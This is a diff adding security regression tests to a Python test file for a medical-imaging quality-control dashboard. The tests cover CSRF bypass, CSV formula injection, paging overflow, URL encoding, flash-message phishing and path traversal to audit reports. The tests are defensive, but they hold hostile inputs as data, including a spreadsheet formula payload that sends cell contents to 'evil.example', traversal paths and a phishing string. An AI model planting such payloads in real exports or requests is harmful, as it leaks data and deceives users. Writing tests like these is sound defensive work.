@@ -4,8 +4,10 @@ pages, filters, CSV, the JSON API, roles, browser sign-in, CSRF, acknowledgement
 /metrics, privacy, thumbnails from the spool and the alert webhooks (a real local HTTP server)."""
 from __future__ import annotations
 
+import base64
 import csv
 import datetime as dt
+import html as html_lib
 import io
 import json
 import re
@@ -21,11 +23,13 @@ from sqlalchemy import select
 
 from dashboard_helpers import ADMIN_TOKEN, PATIENT_KEY, READ_TOKEN, STORE_TOKEN, make_test_app, seed_dashboard
 from qcnode.config import Config
+from qcnode.dashboard import pages as pages_module
 from qcnode.dashboard import queries
 from qcnode.dashboard.palette import protocol_colour
 from qcnode.db.alert_models import AlertAck, AlertWebhook
+from qcnode.db.audit_models import AuditRun
 from qcnode.db.engine import make_engine, session_factory, upgrade
-from qcnode.db.models import Job, Series
+from qcnode.db.models import Instance, Job, Series
 
 READ = {"Authorization": f"Bearer {READ_TOKEN}"}
 ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
@@ -288,6 +292,157 @@ def test_acknowledge_and_rescore_via_api_are_logged(dash):
     assert acked["acknowledged"]["by"] == "admin-token" and acked["acknowledged"]["comment"] == "new tube, expected"
     open_only = c.get("/api/v1/alerts", params={"unacknowledged": True}, headers=READ).json()
     assert f"audit_flag:{flag}" not in {a["alert_id"] for a in open_only["rows"]} and len(open_only["rows"]) == 2
+
+
+def test_csrf_needs_a_valid_bearer_token_not_any_authorization_header(dash):
+    """Only a request TokenAuth authenticated by a valid bearer header skips the CSRF check: Basic
+    credentials (which a browser resends on its own, cross-site too) or any header on the open
+    server, where no token is checked, do not."""
+    client, sf, seeded, _ = dash
+    ref = seeded.fail_result_ids[0]
+    b = client(open_=True)
+    b.get("/alerts")  # the browser holds a CSRF cookie, but the forged form cannot read it
+    basic = {"Authorization": "Basic " + base64.b64encode(b"admin:secret").decode()}
+    assert b.post(f"/alerts/verdict_fail/{ref}/ack", data={"comment": "x"}, headers=basic).status_code == 403
+    assert b.post(f"/api/v1/alerts/verdict_fail/{ref}/ack", json={}, headers=basic).status_code == 403
+    assert b.post(f"/series/{seeded.series_ids[0]}/rescore", headers=basic).status_code == 403
+    assert b.post(f"/alerts/verdict_fail/{ref}/ack", headers={"Authorization": "Bearer anything"}).status_code == 403
+    with sf() as s:
+        assert s.scalars(select(AlertAck)).all() == []
+        assert s.scalars(select(Job)).all() == []
+
+
+def test_csv_cells_that_look_like_formulas_are_defused(dash):
+    """Text a spreadsheet would run as a formula (= + - @ TAB CR first) gets a leading ' in every
+    CSV; numbers (negative ones too) stay numbers."""
+    client, sf, seeded, _ = dash
+    sid = seeded.series_ids[0]
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with sf() as s:
+        series = s.get(Series, sid)
+        series.series_description, series.protocol_name = evil, "+SUM(1,2)"
+        for inst in s.scalars(select(Instance).where(Instance.series_id == sid)):
+            inst.kernel = "@cmd"
+        s.commit()
+    queries.clear_cache()
+    c = client(headers=READ)
+    row = next(r for r in _csv(c.get("/series.csv").text) if r["series_id"] == str(sid))
+    assert row["series_description"] == "'" + evil and row["protocol"] == "'+SUM(1,2)"
+    assert row["series_instance_uid"] == seeded.uids[sid]
+    slices = _csv(c.get(f"/series/{sid}/slices.csv").text)
+    assert {r["kernel"] for r in slices} == {"'@cmd"} and all(r["slice_location"].startswith("-1") for r in slices)
+    for chart in ("box", "trends", "scatter"):
+        protos = {r["protocol"] for r in _csv(c.get(f"/protocols/{chart}.csv").text)}
+        assert "'+SUM(1,2)" in protos and "+SUM(1,2)" not in protos, chart
+    assert c.get("/api/v1/series").json()["rows"][0]["series_description"] == evil  # JSON unchanged
+    for cell in ("-x", "\tx", "\rx", "@x", "=x", "+x"):
+        assert pages_module._csv_cell(cell) == "'" + cell
+    assert pages_module._csv_cell(-1.5) == -1.5 and pages_module._csv_cell("a=b") == "a=b"
+
+
+def test_pages_past_the_end_are_empty_and_page_size_is_capped(dash):
+    client, sf, seeded, _ = dash
+    c = client(headers=READ)
+    far = c.get("/api/v1/series", params={"page": 1500, "page_size": 2}).json()
+    assert (far["page"], far["page_size"], far["total"], far["rows"]) == (1500, 2, 5, [])
+    huge = c.get("/api/v1/series", params={"page": 10 ** 30}).json()  # an offset no database takes
+    assert huge["page"] == 10 ** 30 and huge["rows"] == []
+    assert c.get("/api/v1/series", params={"page_size": 1001}).status_code == 422
+    html = c.get("/series", params={"page": 1500})
+    assert html.status_code == 200 and '<tr data-series-id="' not in html.text
+    from qcnode.dashboard.series_queries import SeriesFilter
+    assert SeriesFilter.from_params({"page": "1500", "page_size": "5000"}, 50).page == 1500
+    assert SeriesFilter.from_params({"page": "1500", "page_size": "5000"}, 50).page_size == 1000
+    assert SeriesFilter.from_params({"page": "0", "page_size": "0"}, 50).page_size == 1
+
+
+def test_the_last_and_first_dates_there_are_do_not_overflow(dash):
+    client, sf, seeded, _ = dash
+    c = client(headers=READ, raise_server_exceptions=False)
+    r = c.get("/api/v1/series", params={"date_to": "9999-12-31"})
+    assert r.status_code == 200 and r.json()["total"] == 5
+    r = c.get("/api/v1/series", params={"date_from": "0001-01-01", "date_to": "9999-12-31"})
+    assert r.status_code == 200 and r.json()["total"] == 5
+    assert c.get("/series", params={"date_to": "9999-12-31"}).status_code == 200
+    assert len(_csv(c.get("/series.csv", params={"date_to": "9999-12-31"}).text)) == 5
+    r = c.get("/api/v1/protocols", params={"since": "2000-01-01", "until": "9999-12-31"})
+    assert r.status_code == 200 and r.json()["n_series"] == 5
+    r = c.get("/api/v1/protocols", params={"until": "9999-12-31"})
+    assert r.status_code == 200 and r.json()["n_series"] == 0
+    r = c.get("/api/v1/protocols", params={"until": "0001-01-01"})  # the default since would underflow
+    assert r.status_code == 200 and r.json()["since"] == "0001-01-01"
+    for path in ("/protocols", "/protocols/box.csv", "/protocols/trends.csv"):
+        assert c.get(path, params={"since": "2000-01-01", "until": "9999-12-31"}).status_code == 200, path
+
+
+def test_protocols_csv_links_are_url_encoded(dash):
+    client, sf, seeded, _ = dash
+    name = "CHEST & ABD #2 a=b+c"
+    with sf() as s:
+        s.get(Series, seeded.series_ids[4]).protocol_name = name
+        s.commit()
+    queries.clear_cache()
+    c = client(headers=READ)
+    html = c.get("/protocols", params={"protocol": name}).text
+    links = [html_lib.unescape(x) for x in re.findall(r'<a class="csv" href="([^"]+)"', html)]
+    assert len(links) == 7 and all("#" not in x for x in links)
+    for link in links:
+        rows = _csv(c.get(link).text)
+        assert rows and {r["protocol"] for r in rows} == {name}, link
+
+
+def test_flash_messages_are_fixed_codes_not_text_from_the_link(dash):
+    client, sf, seeded, _ = dash
+    sid = seeded.series_ids[2]
+    c = client(open_=True)
+    phish = "Your session expired: call +1 555 0100 and read out your token"
+    for path in ("/alerts", f"/series/{sid}"):
+        page = c.get(path, params={"msg": phish}).text
+        assert "expired" not in page and 'id="flash"' not in page, path
+    assert '<p class="flash" id="flash">acknowledged</p>' in c.get("/alerts", params={"msg": "acknowledged"}).text
+    page = c.get(f"/series/{sid}", params={"msg": "queued", "round": "<b>7</b>"}).text
+    assert '<p class="flash" id="flash">queued for scoring</p>' in page and "<b>7" not in page
+    token = c.cookies.get("qcnode_csrf")
+    r = c.post(f"/series/{sid}/rescore", data={"csrf_token": token}, follow_redirects=False)
+    assert r.status_code == 303 and r.headers["location"] == f"/series/{sid}?msg=queued&round=2"
+    assert "queued for scoring (round 2)" in c.get(r.headers["location"]).text
+    ref = seeded.fail_result_ids[0]
+    r = c.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": token}, follow_redirects=False)
+    assert r.headers["location"] == "/alerts?msg=acknowledged"
+    r = c.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": token}, follow_redirects=False)
+    assert r.headers["location"] == "/alerts?msg=already-acknowledged"
+    assert "already acknowledged" in c.get(r.headers["location"]).text
+
+
+def test_audit_report_only_from_the_audit_folder_and_sandboxed(dash, tmp_path):
+    client, sf, seeded, cfg = dash
+    out = cfg.path(cfg.audit.out_dir) / "audit-1-2026-01-01_2026-01-07"
+    out.mkdir(parents=True)
+    inside = out / "report.html"
+    inside.write_text("<html><body>ctdivol_above_reference</body></html>")
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "report.html").write_text("<html><body>secret</body></html>")
+    (out / "link.html").symlink_to(elsewhere / "report.html")
+    c = client(headers=READ)
+    url = f"/audit/{seeded.run_id}/report"
+
+    def point_to(path) -> None:
+        with sf() as s:
+            s.get(AuditRun, seeded.run_id).report_path = str(path)
+            s.commit()
+    for path in (elsewhere / "report.html", out / ".." / ".." / ".." / "elsewhere" / "report.html",
+                 out / "link.html", cfg.base_dir / "var" / "dashboard.key"):
+        point_to(path)  # say, written by `qcnode audit --out DIR`, or a path someone slipped in
+        r = c.get(url)
+        assert r.status_code == 404 and "secret" not in r.text, path
+        assert "outside audit.out_dir" in r.json()["detail"], path
+    point_to(inside)
+    r = c.get(url)
+    assert r.status_code == 200 and "ctdivol_above_reference" in r.text
+    assert r.headers["content-security-policy"] == "sandbox" and r.headers["x-content-type-options"] == "nosniff"
+    point_to(out / "gone.html")
+    assert c.get(url).status_code == 404
 
 
 def test_metrics_from_the_database(dash):
